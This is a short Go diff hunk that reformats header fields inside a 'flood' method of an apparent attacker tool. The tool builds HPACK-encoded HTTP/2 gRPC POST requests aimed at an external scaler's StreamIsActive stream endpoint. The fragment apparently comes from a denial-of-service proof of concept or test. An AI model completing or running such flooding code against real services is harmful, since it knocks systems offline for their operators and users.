@@ -103,8 +103,12 @@ func (a *attacker) flood(ctx context.Context) error {
 		defer mu.Unlock()
 		block.Reset()
 		for _, field := range [][2]string{
-			{":method", "POST"}, {":scheme", "http"}, {":path", "/externalscaler.ExternalScaler/StreamIsActive"},
-			{":authority", a.scaler}, {"content-type", "application/grpc"}, {"te", "trailers"},
+			{":method", "POST"},
+			{":scheme", "http"},
+			{":path", "/externalscaler.ExternalScaler/StreamIsActive"},
+			{":authority", a.scaler},
+			{"content-type", "application/grpc"},
+			{"te", "trailers"},
 		} {
 			// A buffer takes all.
 			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
